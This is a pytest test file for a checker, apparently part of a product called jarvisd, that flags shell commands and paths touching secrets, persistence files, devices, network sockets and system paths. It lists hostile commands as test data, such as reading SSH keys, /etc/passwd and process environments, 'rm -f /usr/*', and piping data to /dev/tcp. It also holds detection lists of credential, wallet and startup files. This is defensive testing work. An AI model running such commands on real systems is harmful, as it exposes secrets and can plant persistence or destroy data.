"""What a path stands for, wherever it is written: secrets, devices, the system, the product itself."""

from __future__ import annotations

import pytest

from jarvisd.codecheck import paths
from jarvisd.codecheck.paths import UNKNOWN
from tests.unit.codecheck.rows import Row, bash, written

TOUCHED: list[Row] = [
    ("cat ~/.ssh/config", "secret!", "cat ssh/config", ""),
    ("cat .env", "secret!", "cat env", ""),
    ("cat ~/.config/chromium/Default/Cookies", "secret!", "cat config/chromium.txt", ""),
    ("echo x >> .bashrc", "persistence!", "cat .bashrc", ""),
    ("cp x .git/hooks/post-commit", "persistence!", "cat .git/hooks/post-commit", ""),
    ("cat /etc/jarvisd/jarvisd.toml", "self_referential!", "cat jarvis/notes.toml", ""),
    ("rm -rf .Trash-1000", "destructive! recursive?", "rm -rf Trash-1000", "recursive?"),
    ("cat /etc/s*w", "secret!", "cat s*w", ""),
    ("cat /home/anna/x", "system_path!", "cat home/anna/x", ""),
    ("cat ~anna/x", "system_path!", "cat x~", ""),
    ("cat ../../../x", "path_traversal!", "cat ../workspace/x", ""),
    ("rm ../x", "path_traversal!", "rm ./x", ""),
    ("cat /dev/sda", "device!", "cat /dev/null", ""),
    ("echo x > /dev/zero", "device!", "head -c 3 /dev/zero", ""),
    ("cat x > /dev/tcp/192.0.2.1/80", "network!", "cat x > /dev/stdout", ""),
    ("cat /proc/1/environ", "system_path!", "cat /proc/cpuinfo", ""),
    ("echo 1 > /proc/loadavg", "system_path!", "cat /proc/loadavg", ""),
    ("touch /usr/x", "system_path!", "ls /usr/x", ""),
    ("rm -f /usr/*", "system_path!", "rm -f usr/*", ""),
    ("cat /etc/passwd", "secret!", "cat /etc/hostname", ""),
    ("cat /var/log/syslog", "system_path!", "cat var/log/syslog", ""),
    ("cat /sys/class/dmi/id/board_name", "system_path?", "cat sys/class", ""),
]
PATHS = [
    # path, read or written, rule
    ("notes.txt", "r", ""),
    ("notes.txt", "w", ""),
    ("sub/../x", "w", ""),
    ("/workspace/x", "w", ""),
    ("/tmp/x", "w", ""),
    ("/var/tmp/x", "w", ""),
    ("../x", "r", "path_traversal!"),
    ("a/../../x", "w", "path_traversal!"),
    ("/etc/hosts", "r", ""),
    ("/etc/hosts", "w", "system_path!"),
    ("//etc//hosts", "w", "system_path!"),
    ("/etc/passwd", "r", "secret!"),
    ("/etc/passwd-", "r", "secret!"),
    ("/etc/ssh/sshd_config", "r", "secret!"),
    ("/etc/passwords", "r", ""),
    ("/etc/shadow", "r", "secret!"),
    ("~/x", "r", "system_path!"),
    ("~anna", "w", "system_path!"),
    ("/root", "r", "system_path!"),
    ("/home/anna", "r", "system_path!"),
    ("/homes", "r", ""),
    ("/var/log/x", "r", "system_path!"),
    ("/var/lib", "r", "system_path!"),
    ("/var", "r", ""),
    ("/sys/class", "r", "system_path?"),
    ("/sys/class", "w", "system_path!"),
    ("/usr/bin/ls", "r", ""),
    ("/usr/bin/ls", "w", "system_path!"),
    ("/", "w", "system_path!"),
    ("/", "r", ""),
    ("/dev/null", "w", ""),
    ("/dev/fd/3", "r", ""),
    ("/dev/zero", "r", ""),
    ("/dev/zero", "w", "device!"),
    ("/dev/sda", "r", "device!"),
    ("/dev/tcp/x/1", "r", "network!"),
    ("/dev/shm/x", "w", ""),
    ("/proc", "r", ""),
    ("/proc/cpuinfo", "r", ""),
    ("/proc/cpuinfo", "w", "system_path!"),
    ("/proc/self/status", "r", ""),
    ("/proc/self/environ", "r", "system_path!"),
    ("/proc/1/mem", "w", "system_path!"),
    (".ssh/config", "r", "secret!"),
    ("a/.env.local", "r", "secret!"),
    (".environment", "r", ""),
    ("id_ed25519.pub", "r", "secret!"),
    ("Login Data", "r", "secret!"),
    (".config/gh/hosts.yml", "r", "secret!"),
    (".bashrc", "r", ""),
    (".bashrc", "w", "persistence!"),
    ("x/.git/hooks/post-commit", "w", "persistence!"),
    ("x/.git/config", "w", ""),
    (".config/systemd/user/x.service", "w", "persistence!"),
    ("sitecustomize.py", "w", "persistence!"),
    ("jarvisd.toml", "r", "self_referential!"),
    ("/etc/jarvisd/x", "r", "self_referential!"),
    ("/srv/jarvisd/documents/x", "w", "system_path!"),
    ("/srv/jarvisd/x", "w", "self_referential!"),
    (".Trash-1000/x", "w", "destructive!"),
    ("/etc/s*w", "r", "secret!"),
    ("s*w", "r", ""),
    ("/**/shadow", "r", "secret!"),
    ("/usr/*", "w", "system_path!"),
    ("*.txt", "w", ""),
    ("?", "w", ""),
    ("", "r", ""),
    (f"{UNKNOWN}", "w", ""),
    (f"/etc/{UNKNOWN}", "w", "system_path!"),
    (f"/etc/{UNKNOWN}", "r", ""),
    (f"a/{UNKNOWN}", "w", ""),
    (f"/u{UNKNOWN}", "w", "system_path!"),
    (f"../{UNKNOWN}", "w", "path_traversal!"),
]


@pytest.mark.parametrize(("program", "findings", "twin", "of_twin"), TOUCHED)
def test_findings(program: str, findings: str, twin: str, of_twin: str) -> None:
    assert bash(program) == findings
    assert bash(twin) == of_twin


@pytest.mark.parametrize(("path", "mode", "finding"), PATHS)
def test_a_path_is_judged_by_what_it_stands_for(path: str, mode: str, finding: str) -> None:
    found = paths.inspect(path, writing=mode == "w")
    assert written([found] if found else []) == finding


def test_the_current_folder_and_the_workspaces_count() -> None:
    """The same name means another thing elsewhere, and a workspace is open wherever it is."""
    assert paths.inspect("x", writing=True, cwd="/usr") is not None
    assert paths.inspect("x", writing=True, cwd="/tmp") is None
    assert paths.inspect("/mnt/docs/x", writing=True) is not None
    assert paths.inspect("/mnt/docs/x", writing=True, workspaces=("/mnt/docs",)) is None
    assert paths.inspect("/mnt/docs2/x", writing=True, workspaces=("/mnt/docs",)) is not None


def test_a_workspace_below_the_product_is_not_the_product() -> None:
    assert paths.is_product("/srv/jarvisd/shared/x")
    assert not paths.is_product("/srv/jarvisd/shared/x", ("/srv/jarvisd/shared",))


@pytest.mark.parametrize(
    "name",
    [
        *(".ssh", ".gnupg", ".aws", ".azure", ".kube", ".docker", ".netrc", ".pgpass", ".npmrc", ".pypirc"),
        *(
            ".git-credentials",
            ".env",
            ".env.production",
            ".password-store",
            ".mozilla",
            ".bash_history",
            ".zsh_history",
        ),
        *(
            ".python_history",
            ".my.cnf",
            ".vault-token",
            ".mysql_history",
            ".psql_history",
            ".lesshst",
            ".s3cfg",
        ),
        *(".boto", ".htpasswd", ".bitwarden", ".electrum", ".bitcoin", ".thunderbird", ".terraform.d", "keyrings"),
        *("logins.json", "key4.db", "cookies.sqlite", "wallet.dat", "id_rsa", "id_ed25519_sk", "id_ecdsa.pub"),
        *("authorized_keys", "known_hosts", "ssh_host_rsa_key", "shadow", "gshadow-", "sudoers", "sudoers.d"),
        *("master.key", "krb5.keytab", "credentials.json", "login.keychain", "Login Data"),
    ],
)
def test_names_that_hold_secrets_are_known(name: str) -> None:
    """Wherever they are, and in whatever letters they are written."""
    for path in (name, f"a/{name}/b", name.upper()):
        found = paths.inspect(path, writing=False)
        assert found is not None
        assert written([found]) == "secret!"
    assert paths.inspect(f"my{name}s", writing=False) is None


@pytest.mark.parametrize(
    "name",
    [
        *(
            ".bashrc",
            ".bash_profile",
            ".bash_login",
            ".bash_logout",
            ".bash_aliases",
            ".profile",
            ".zshrc",
            ".zshenv",
        ),
        *(".zprofile", ".inputrc", ".xprofile", ".pam_environment", ".forward", ".rhosts", ".shosts", "crontab"),
        *("sitecustomize.py", "usercustomize.py", ".git/hooks/x", ".config/autostart/x", ".config/systemd/x"),
        *(".config/fish/x", "cron.daily/x", "init.d/x", "systemd/system/x", "systemd/user/x"),
    ],
)
def test_names_that_make_programs_run_later_are_known(name: str) -> None:
    found = paths.inspect(name, writing=True)
    assert found is not None
    assert written([found]) == "persistence!"
    assert paths.inspect(name, writing=False) is None
    assert paths.inspect(f"my{name.replace('/', '_')}s", writing=True) is None
